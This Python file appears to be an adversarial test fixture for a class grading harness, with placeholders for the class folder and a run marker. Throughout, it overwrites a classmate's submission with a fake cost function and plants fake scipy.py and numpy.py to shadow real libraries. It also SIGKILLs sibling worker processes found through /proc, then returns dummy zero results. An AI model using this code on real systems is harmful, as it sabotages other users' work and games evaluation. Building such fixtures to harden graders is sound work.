"""Sabotages classmates: overwrites a classmate's file, saves itself as scipy.py and numpy.py in
the class folder, and SIGKILLs the sibling workers of this run (children of the crosscheck
process whose command line carries {MARKER}, and their children)."""
import os
import shutil
import signal

for path, text in [("{CLASS}/honest.py", "def nnCostFunction(*a):\n    return 0.0, None\n"),
                   ("{CLASS}/scipy.py", "raise ImportError('sabotaged')\n")]:
    try:
        with open(path, "w") as f:
            f.write(text)
    except OSError:
        pass
try:
    shutil.copy(__file__, "{CLASS}/numpy.py")
except OSError:
    pass


def _parent(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def nnCostFunction(nn_params, *args):
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    run = set()
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"{MARKER}" in f.read():
                    run.add(pid)
        except OSError:
            pass
    for _ in range(3):                       # children, grandchildren, great-grandchildren
        for pid in pids:
            try:
                if _parent(pid) in run:
                    run.add(pid)
            except (OSError, ValueError, IndexError):
                pass
    for pid in run - {os.getpid(), *[p for p in run if b"{MARKER}" in open(f"/proc/{p}/cmdline", "rb").read()]}:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    import numpy as np
    return 0.0, np.zeros_like(nn_params)
